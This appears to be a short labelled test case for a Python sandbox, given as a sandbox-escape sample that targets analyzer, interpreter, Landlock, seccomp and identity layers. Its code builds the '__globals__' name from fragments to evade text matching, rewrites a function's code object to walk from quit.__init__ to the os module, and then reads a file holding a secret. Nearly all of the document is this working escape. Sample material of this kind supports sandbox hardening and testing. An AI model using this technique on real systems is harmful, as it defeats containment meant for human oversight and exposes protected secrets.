# class: object graph walk
# technique: a function's code replaced by one with names that no text has
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
def read(x):
    return x.harmless
name = '_'.join(['', '', 'globals', '', ''])
read.__code__ = read.__code__.replace(co_names=(name,))
g = read(quit.__init__)
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
